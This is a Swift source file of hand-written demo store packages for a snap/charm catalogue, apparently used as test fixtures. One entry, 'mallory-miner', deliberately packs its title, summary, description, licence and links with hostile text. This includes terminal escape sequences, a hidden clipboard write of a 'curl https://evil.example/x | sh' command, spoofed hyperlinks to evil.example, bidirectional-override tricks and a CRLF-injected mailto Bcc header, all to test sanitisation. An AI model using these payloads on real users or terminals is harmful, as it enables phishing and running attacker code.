import StoreModels

/// The named demo packages every catalogue starts with, so demos and tests can rely on them.
///
/// | name             | type  | owner     | shape                                                                                   |
/// |------------------|-------|-----------|-----------------------------------------------------------------------------------------|
/// | `hello-world`    | snap  | canonical | amd64/arm64/armhf, all four risks on latest, expired branch `latest/edge/fix-1234`        |
/// | `postgresql-k8s` | charm | canonical | ubuntu@22.04 amd64+arm64, tracks `14` (default) and `16`, latest closed, 16 has a pending revision |
/// | `firefox`        | snap  | canonical | 420 revisions, strict, tracks latest and `esr`, progressive 30% on latest/stable, active branch `latest/candidate/fix-2201` |
/// | `alice-notes`    | snap  | alice     | bob collaborates; candidate, beta and edge released, stable empty; newest revision pending |
/// | `mallory-miner`  | snap  | mallory   | suspended owner; hostile title, summary, description, licence and links; a rejected revision |
public enum DemoPackages {
    /// A small snap with every risk in use and an expired branch.
    public static let helloWorld = "hello-world"
    /// A charm with two tracks, released per base.
    public static let postgresqlK8s = "postgresql-k8s"
    /// A big snap (several hundred revisions) with a progressive release.
    public static let firefox = "firefox"
    /// alice's snap, nothing on stable, a revision waiting in review.
    public static let aliceNotes = "alice-notes"
    /// The suspended publisher's snap, full of hostile text.
    public static let malloryMiner = "mallory-miner"
    /// The named packages in catalogue order (entries 0–4).
    public static let all = [helloWorld, postgresqlK8s, firefox, aliceNotes, malloryMiner]
}

/// Hand-written specs of the named demo packages.
enum FixedPackages {
    private static let day = 86_400.0
    private static let year = 365.25 * 86_400.0

    /// Their names, in catalogue order.
    static let names = DemoPackages.all

    /// The spec of named package `index`.
    static func spec(at index: Int, context: DemoContext, rng: inout SplitMix64) -> PackageSpec {
        switch index {
        case 0: helloWorld(context: context, rng: &rng)
        case 1: postgresql(context: context, rng: &rng)
        case 2: firefox(context: context, rng: &rng)
        case 3: aliceNotes(context: context, rng: &rng)
        default: malloryMiner(context: context, rng: &rng)
        }
    }

    /// Evenly spread builds from `createdAt` to `last`, with versions and tracks from `describe`.
    private static func builds(
        count: Int, from createdAt: Double, to last: Double, rng: inout SplitMix64,
        describe: (Int) -> (version: String, tracks: [String], base: String?)
    ) -> [PackageSpec.Build] {
        (0..<count).map { build in
            let info = describe(build)
            let slot = (Double(build) + 1 - 0.3 * rng.unit()) / Double(count)
            return PackageSpec.Build(version: info.version, time: createdAt + (last - createdAt) * slot, tracks: info.tracks, snapBase: info.base)
        }
    }

    private static func githubLinks(_ owner: String, _ repository: String, website: String) -> [Package.Link] {
        [
            Package.Link(kind: "website", url: website),
            Package.Link(kind: "source", url: "https://github.com/\(owner)/\(repository)"),
            Package.Link(kind: "issues", url: "https://github.com/\(owner)/\(repository)/issues"),
            Package.Link(kind: "contact", url: "https://discourse.ubuntu.com/c/project/snap"),
        ]
    }

    private static func helloWorld(context: DemoContext, rng: inout SplitMix64) -> PackageSpec {
        let created = context.now - 2.9 * year
        var spec = PackageSpec(
            index: 0, name: DemoPackages.helloWorld, type: .snap, ownerIndex: DemoPublishers.canonicalIndex,
            title: "Hello World", summary: "The 'hello-world' of snaps",
            description: """
                This is a simple hello world example that prints a friendly greeting and exits.

                It is the smallest useful snap: use it to check that snapd works on a new machine, to try \
                channels (every risk is in use), or as a template for your own first snap.

                Run it with `hello-world`, or `hello-world.evil` to see what strict confinement stops.
                """,
            categories: ["featured", "development"], license: "MIT",
            links: githubLinks("canonical", "hello-world-snap", website: "https://snapcraft.io/docs/get-started"),
            createdAt: created, architectures: [.amd64, .arm64, .armhf], perArchitecture: true,
            confinement: .strict, grade: .stable, permissions: ["home", "network"], baseSize: 20_480 * 1000 / 1000 * 300,
            revisionCount: 36, builds: [])
        spec.builds = builds(count: 12, from: created, to: context.now - 3 * day, rng: &rng) { build in
            ("6.\(build)", [Channel.latestTrack], build < 6 ? "core20" : "core22")
        }
        spec.plans = [PackageSpec.TrackPlan(track: Channel.latestTrack, risks: [(.edge, 0), (.beta, 1), (.candidate, 2), (.stable, 3)])]
        spec.branches = [PackageSpec.Branch(track: Channel.latestTrack, risk: .edge, name: "fix-1234", age: 45 * day)]
        return spec
    }

    private static func postgresql(context: DemoContext, rng: inout SplitMix64) -> PackageSpec {
        let created = context.now - 2.5 * year
        var spec = PackageSpec(
            index: 1, name: DemoPackages.postgresqlK8s, type: .charm, ownerIndex: DemoPublishers.canonicalIndex,
            title: "Charmed PostgreSQL K8s", summary: "Charmed operator for PostgreSQL on Kubernetes",
            description: """
                Charmed PostgreSQL K8s is an open-source operator that deploys and operates PostgreSQL on \
                Kubernetes with Juju.

                Features:
                - Deployment, scaling and high availability with automatic fail-over
                - Backups and point-in-time recovery to S3-compatible storage
                - TLS through the certificates relation
                - Metrics, logs and alert rules for the Canonical Observability Stack

                Track 14 runs PostgreSQL 14 and is the default; track 16 runs PostgreSQL 16 and is in beta.
                """,
            categories: ["server-and-cloud"], license: "Apache-2.0",
            links: githubLinks("canonical", "postgresql-k8s-operator", website: "https://charmhub.io/postgresql-k8s"),
            createdAt: created, architectures: [.amd64, .arm64], bases: ["ubuntu@22.04"], perArchitecture: true,
            permissions: ["database", "certificates", "metrics-endpoint", "logging", "s3-parameters", "replicas", "upgrade"],
            baseSize: 8_000_000, revisionCount: 80, builds: [])
        var fourteen = 0
        var sixteen = 0
        spec.builds = builds(count: 40, from: created, to: context.now - 2 * day, rng: &rng) { build in
            if build >= 20, build % 2 == 1 {
                defer { sixteen += 1 }
                return ("16.\(4 + sixteen / 3)", ["16"], nil)
            }
            defer { fourteen += 1 }
            return ("14.\(9 + fourteen / 3)", ["14"], nil)
        }
        spec.builds[39].review = .pending([DemoReview.newInterface("tracing", charm: true)])
        spec.builds[39].addedPermission = "tracing"
        spec.extraTracks = ["14", "16"]
        spec.defaultTrack = "14"
        spec.plans = [
            PackageSpec.TrackPlan(track: "14", risks: [(.edge, 0), (.beta, 1), (.candidate, 1), (.stable, 2)]),
            PackageSpec.TrackPlan(track: "16", risks: [(.edge, 0), (.beta, 1)]),
        ]
        return spec
    }

    private static func firefox(context: DemoContext, rng: inout SplitMix64) -> PackageSpec {
        let created = context.now - 3 * year + 5 * day
        var spec = PackageSpec(
            index: 2, name: DemoPackages.firefox, type: .snap, ownerIndex: DemoPublishers.canonicalIndex,
            title: "Firefox", summary: "Mozilla Firefox web browser",
            description: """
                Firefox is a powerful, extensible web browser with support for modern web application technologies.

                This snap is built and published by the Ubuntu desktop team. The latest track follows Firefox's \
                rapid releases; the esr track carries the Extended Support Release for organisations that \
                need fewer feature changes.

                New stable releases roll out progressively: a share of devices gets them first.
                """,
            categories: ["productivity", "featured"], license: "MPL-2.0",
            links: githubLinks("canonical", "firefox-snap", website: "https://www.mozilla.org/firefox/"),
            createdAt: created, architectures: [.amd64, .arm64, .armhf], perArchitecture: true,
            confinement: .strict, grade: .stable,
            permissions: ["network", "home", "desktop", "wayland", "x11", "opengl", "audio-playback", "removable-media", "camera", "browser-support"],
            baseSize: 180_000_000, revisionCount: 420, builds: [])
        var rapid = 0
        var esr = 0
        spec.builds = builds(count: 140, from: created, to: context.now - day, rng: &rng) { build in
            let base = build < 70 ? "core22" : "core24"
            if build % 5 == 4 {
                defer { esr += 1 }
                return ("115.\(esr).0esr-1", ["esr"], base)
            }
            defer { rapid += 1 }
            return ("\(110 + rapid / 6).0.\(rapid % 6)-1", [Channel.latestTrack], base)
        }
        spec.extraTracks = ["esr"]
        spec.plans = [
            PackageSpec.TrackPlan(track: Channel.latestTrack, risks: [(.edge, 0), (.beta, 1), (.candidate, 2), (.stable, 3)]),
            PackageSpec.TrackPlan(track: "esr", risks: [(.candidate, 0), (.stable, 1)]),
        ]
        spec.progressive = PackageSpec.Progressive(track: Channel.latestTrack, risk: .stable, percentage: 30)
        spec.branches = [PackageSpec.Branch(track: Channel.latestTrack, risk: .candidate, name: "fix-2201", age: 2 * day)]
        return spec
    }

    private static func aliceNotes(context: DemoContext, rng: inout SplitMix64) -> PackageSpec {
        let created = context.now - 200 * day
        var spec = PackageSpec(
            index: 3, name: DemoPackages.aliceNotes, type: .snap, ownerIndex: DemoPublishers.aliceIndex,
            collaboratorIndices: [DemoPublishers.bobIndex],
            title: "Alice Notes", summary: "A tiny Markdown notebook that keeps your notes as plain files",
            description: """
                Alice Notes is a small, fast notebook for Markdown notes. Notes are plain files in a folder \
                you choose, so any sync tool works.

                Features:
                - Instant full-text search
                - Wiki links between notes
                - Dark and light themes

                Not on stable yet: try the candidate channel. Bob Brown helps maintain it.
                """,
            categories: ["productivity"], license: "MIT",
            links: [
                Package.Link(kind: "source", url: "https://github.com/alice/alice-notes"),
                Package.Link(kind: "issues", url: "https://github.com/alice/alice-notes/issues"),
                Package.Link(kind: "contact", url: "mailto:alice@example.com"),
            ],
            createdAt: created, architectures: [.amd64, .arm64], perArchitecture: false,
            confinement: .strict, grade: .stable, permissions: ["home", "network", "desktop", "wayland"],
            baseSize: 24_000_000, revisionCount: 9, builds: [])
        spec.builds = builds(count: 9, from: created, to: context.now - 6 * 3600, rng: &rng) { build in
            ("0.\(build / 3 + 1).\(build % 3)", [Channel.latestTrack], "core24")
        }
        spec.builds[8].review = .pending([DemoReview.newInterface("personal-files", charm: false)])
        spec.builds[8].addedPermission = "personal-files"
        spec.plans = [PackageSpec.TrackPlan(track: Channel.latestTrack, risks: [(.edge, 1), (.beta, 2), (.candidate, 4)])]
        return spec
    }

    private static func malloryMiner(context: DemoContext, rng: inout SplitMix64) -> PackageSpec {
        let created = context.now - 90 * day
        let esc = "\u{1B}"
        var spec = PackageSpec(
            index: 4, name: DemoPackages.malloryMiner, type: .snap, ownerIndex: DemoPublishers.malloryIndex,
            title: "System Monitor Pro\(esc)]0;Firefox\u{07}\(esc)[8m (hidden miner)\(esc)[0m",
            summary: "Lightweight CPU monitor\(esc)]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\u{07} ✓ verified\u{202E}eerf\u{202C}",
            description: """
                \(esc)[2J\(esc)[HThe fastest system monitor.\r\nPublisher: Canonical ✓ (verified)
                Totally safe: \(esc)]8;;https://evil.example/payload\(esc)\\https://snapcraft.io\(esc)]8;;\(esc)\\

                \u{202E}!enihcam ruoy enim ot gnihton seod ppa sihT\u{202C}
                مراقب النظام — שומר המערכת — 系统监视器 👨‍👩‍👧‍👦 \u{9B}31m8-bit red\u{9B}0m
                """,
            categories: ["utilities"], license: "MIT\(esc)[8m AND Proprietary",
            links: [
                Package.Link(kind: "website", url: "https://snapcraft.io@evil.example/\(esc)]8;;https://evil.example\(esc)\\"),
                Package.Link(kind: "source", url: "https://github.com/mallory/\u{202E}reniM"),
                Package.Link(kind: "contact", url: "mailto:mallory@evil.example\r\nBcc: everyone@example.com"),
            ],
            createdAt: created, architectures: [.amd64], perArchitecture: false,
            confinement: .strict, grade: .stable, permissions: ["network", "hardware-observe", "system-observe", "process-control"],
            baseSize: 9_000_000, revisionCount: 6, builds: [])
        spec.builds = builds(count: 6, from: created, to: context.now - 10 * day, rng: &rng) { build in
            ("1.0.\(build)", [Channel.latestTrack], "core22")
        }
        spec.builds[5].review = .rejected(Prose.rejectionReasons[0])
        spec.plans = [PackageSpec.TrackPlan(track: Channel.latestTrack, risks: [(.edge, 1), (.stable, 2)])]
        return spec
    }
}
